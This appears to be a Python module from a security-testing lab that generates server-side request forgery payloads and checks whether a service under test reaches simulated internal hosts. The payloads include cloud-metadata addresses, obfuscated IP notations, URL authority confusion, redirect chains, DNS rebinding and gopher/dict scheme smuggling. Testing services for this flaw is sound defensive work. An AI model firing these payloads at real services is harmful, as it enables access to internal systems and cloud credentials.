"""Server-side request forgery: addresses that lead a service which fetches what it is told to where nobody let it in.

What proves it is a connection that was made to the inside, a request that arrived there, or a secret that came out.
"""

from __future__ import annotations

import ipaddress
import random
from collections.abc import Callable, Iterator, Sequence
from typing import TYPE_CHECKING

from backroad.labs.http.attack.trying import Send, Trying
from backroad.labs.http.internet import Inner, Internet, Site
from backroad.labs.rejection import OurFault

if TYPE_CHECKING:
    from backroad.labs.http.lab import HttpLab

MOST = 200
MOVED = (301, 302, 303, 307, 308)
SAID = {
    "addresses": "your service goes to an address inside when it is told to fetch",
    "spellings": "your service goes inside, where the address is only spelled in another way:",
    "authority": "your service looks at another host than the one that it goes to, and goes inside for",
    "names": "your service goes inside through a name that leads there:",
    "redirects": "your service is redirected to the inside, and goes there, when it is told to fetch",
    "rebinding": "a name leads outside when it is looked up and inside the next time, and your service goes there:",
    "schemes": "your service speaks with the inside in another protocol when it is told to fetch",
}
"""What is said of each kind of payload, before the payload itself."""


class Targets:
    """The inside of one attack: servers at addresses of every sort, most of them drawn."""

    def __init__(self, rng: random.Random, internet: Internet) -> None:
        self.internet = internet
        part = rng.randint
        self.loopback = internet.inner("127.0.0.1")
        self.loopback6 = internet.inner("::1")
        self.office = internet.inner(f"10.{part(1, 254)}.{part(1, 254)}.{part(1, 254)}")
        self.metadata = internet.inner("169.254.169.254")
        self.others = [
            internet.inner(f"127.{part(1, 254)}.{part(0, 254)}.{part(1, 254)}"),
            internet.inner(f"192.168.{part(0, 254)}.{part(1, 254)}"),
            internet.inner(f"172.{part(16, 31)}.{part(0, 254)}.{part(1, 254)}"),
            internet.inner(f"100.{part(64, 127)}.{part(0, 254)}.{part(1, 254)}"),
            internet.inner("100.100.100.200"),  # where another large provider keeps its metadata
            internet.inner(f"198.{part(18, 19)}.{part(0, 254)}.{part(1, 254)}"),
            internet.inner(f"fd{part(16, 254):x}:{part(1, 9999)}::{part(1, 9999)}"),
        ]
        self.all = [self.loopback, self.loopback6, self.office, self.metadata, *self.others]
        self.many = [self.loopback, self.office, self.metadata]


def attack(
    lab: HttpLab,
    rng: random.Random,
    send: Send,
    internet: Internet,
    kinds: Sequence[str],
    ports: Sequence[int],
) -> None:
    """Send everything of these kinds. Raises Rejection once the inside was reached."""
    unknown = [kind for kind in kinds if kind not in FAMILIES]
    if unknown:
        raise OurFault(f"there is no kind {unknown[0]!r} of addresses; there are {', '.join(FAMILIES)}")
    trying = Trying(lab, send, "Ssrf", MOST)
    targets = Targets(rng, internet)
    targets.all += [internet.inner("127.0.0.1", port=port) for port in ports]
    for kind in kinds or FAMILIES:
        for url in FAMILIES[kind](rng, targets):
            already = len(internet.contacts)
            answers = trying.send(url, kind)
            reached = {contact.address for contact in internet.contacts[already:]}
            for inner in targets.all:
                if inner.requests or reached & set(inner.addresses):
                    trying.fail(answers[-1] if answers else None, "", url, kind, SAID[kind])
                for answer in answers:
                    if inner.secret in answer.raw.decode("utf-8", "replace"):
                        trying.fail(answer, "body", url, kind, SAID[kind])


# The families ---------------------------------------------------------------------------------------------------


def _addresses(_: random.Random, targets: Targets) -> Iterator[str]:
    """Inner addresses as they are usually written."""
    for inner in targets.all:
        yield _url(inner)
    yield "http://localhost/"
    yield "http://0.0.0.0/"
    yield "http://[::]/"


def _spellings(rng: random.Random, targets: Targets) -> Iterator[str]:
    """The same addresses as no list of them has them."""
    yield "http://127.1/"
    yield "http://127.0.1/"
    yield "http://0/"
    for inner in targets.many:
        yield from (f"http://{text}/" for text in spelled(rng, inner.addresses[0]))
    yield "http://[0:0:0:0:0:0:0:1]/"
    yield "http://[0000::0001]/"
    yield "http://LOCALHOST/"
    yield "http://localhost./"
    yield "HTTP://127.0.0.1/"
    yield " http://127.0.0.1/"
    yield "http://127.0.0.1:080/"
    yield "http://127.0.0.1:80\t/"


def spelled(rng: random.Random, address: str) -> Iterator[str]:
    """An address of IPv4 in other notations that lead to it."""
    number = int(ipaddress.IPv4Address(address))
    parts = [int(part) for part in address.split(".")]
    yield str(number)
    yield f"0x{number:x}"
    yield f"0{number:o}"
    yield ".".join(f"0x{part:x}" for part in parts)
    yield ".".join(f"0{part:o}" for part in parts)
    yield f"{parts[0]}.{number & 0xFFFFFF}"
    yield f"{parts[0]}.{parts[1]}.0x{number & 0xFFFF:04x}"
    odd = rng.randrange(4)
    yield ".".join(f"0x{part:02X}" if at == odd else f"{part}" for at, part in enumerate(parts))
    yield f"[::ffff:{address}]"
    yield f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]"
    yield f"[0:0:0:0:0:ffff:{address}]"
    # Full-width digits and an ideographic full stop, which IDNA makes plain ones.
    yield "".join(chr(ord(letter) + 0xFEE0) if letter.isdigit() else letter for letter in address)
    yield address.replace(".", "\u3002")
    yield "".join(f"%{ord(letter):02x}" for letter in address)
    yield f"{address}."


def _authority(rng: random.Random, targets: Targets) -> Iterator[str]:
    """Addresses whose host is another one than it seems."""
    name = _site(rng, targets, "a public page").name
    for inner in targets.many:
        host = _host(inner)
        yield f"http://{name}@{host}/"
        yield f"http://{name}:80@{host}/"
        yield f"http://{name}%2f@{host}/"
        yield f"http://{name}\\@{host}/"
        yield f"http://{host}#@{name}/"
        yield f"http://{host}?@{name}/"
        yield f"http://{host}\\@{name}/"
        yield f"http:///{host}/"
        yield f"http:{host}/"
        yield f"//{host}/"


def _names(rng: random.Random, targets: Targets) -> Iterator[str]:
    """Names that lead inside, alone and beside a public address; over an alias; in the clothes of IPv6."""
    internet = targets.internet
    for inner in targets.all:
        name = _name(rng, inner.addresses[0].replace(".", "-").replace(":", "-"))
        internet.name(name, inner.addresses)
        yield f"http://{name}:{inner.port}/"
    inner = targets.office
    alias = _name(rng, "www")
    hidden = _name(rng, "backend")
    internet.name(hidden, inner.addresses)
    internet.name(alias, alias=hidden)
    yield f"http://{alias}/"
    mapped = _name(rng, "mapped")
    internet.name(mapped, [f"::ffff:{inner.addresses[0]}"])
    yield f"http://{mapped}/"
    for version in (4, 6):
        dead = internet.address(rng, version)  # which breaks off, so that the next one is tried
        for addresses in ([dead, *inner.addresses], [*inner.addresses, dead]):
            name = _name(rng, "several")
            internet.name(name, addresses)
            yield f"http://{name}/"


def _redirects(rng: random.Random, targets: Targets) -> Iterator[str]:
    """Public pages that send on to the inside, at once and after another step."""
    for status in MOVED:
        inner = rng.choice(targets.all)
        yield _sends_on(rng, targets, status, _url(inner))
    host = _host(targets.office)
    yield _sends_on(rng, targets, 302, f"//{host}/")
    yield _sends_on(rng, targets, 307, f"http://{next(spelled(rng, targets.metadata.addresses[0]))}/")
    yield _sends_on(rng, targets, 301, _sends_on(rng, targets, 302, _url(targets.loopback)))
    name = _name(rng, "inside")
    targets.internet.name(name, targets.office.addresses)
    yield _sends_on(rng, targets, 303, f"http://{name}/")


def _rebinding(rng: random.Random, targets: Targets) -> Iterator[str]:
    """Names that lead somewhere else the second time: to a public address first, where a page is, and then inside."""
    for inner in targets.many:
        site = _site(rng, targets, "the first time")
        targets.internet.name(site.name, site.addresses, then=inner.addresses)
        yield f"{site.url}/"
    site = _site(rng, targets, "the first time")
    targets.internet.name(site.name, site.addresses, then=targets.loopback6.addresses)
    yield f"{site.url}/"
    # A redirect to itself: the name that was looked at once is believed for the second step.
    site = _site(rng, targets, "moved")
    targets.internet.name(site.name, site.addresses, then=targets.office.addresses)
    site.answers("GET", "/", status=302, headers={"Location": f"{site.url}/again"})
    yield f"{site.url}/"


def _schemes(_: random.Random, targets: Targets) -> Iterator[str]:
    """Protocols other than HTTP that libraries speak by themselves."""
    for inner in targets.many:
        host = _host(inner)
        yield f"gopher://{host}:80/_GET%20/%20HTTP/1.0%0d%0a%0d%0a"
        yield f"ftp://{host}:80/"
        yield f"dict://{host}:80/info"
        yield f"ws://{host}/"


FAMILIES: dict[str, Callable[[random.Random, Targets], Iterator[str]]] = {
    "addresses": _addresses,
    "spellings": _spellings,
    "authority": _authority,
    "names": _names,
    "redirects": _redirects,
    "rebinding": _rebinding,
    "schemes": _schemes,
}


def _sends_on(rng: random.Random, targets: Targets, status: int, location: str) -> str:
    """The address of a public page that sends on to another."""
    site = _site(rng, targets, "moved")
    site.answers("GET", "/", status=status, headers={"Location": location})
    return f"{site.url}/"


def _site(rng: random.Random, targets: Targets, title: str) -> Site:
    internet = targets.internet
    site = internet.site(_name(rng, "www"), internet.address(rng, 4))
    page = f"<!doctype html><title>{title}</title>"
    site.answers("GET", "/", body=page, headers={"Content-Type": "text/html; charset=utf-8"})
    return site


def _name(rng: random.Random, what: str) -> str:
    """A name that no other payload has, so that nobody can remember where it led."""
    return f"{what}.{rng.randrange(10**9):x}.example"


def _host(inner: Inner) -> str:
    host = inner.addresses[0]
    host = f"[{host}]" if ":" in host else host
    return host if inner.port == 80 else f"{host}:{inner.port}"


def _url(inner: Inner) -> str:
    return f"http://{_host(inner)}/"
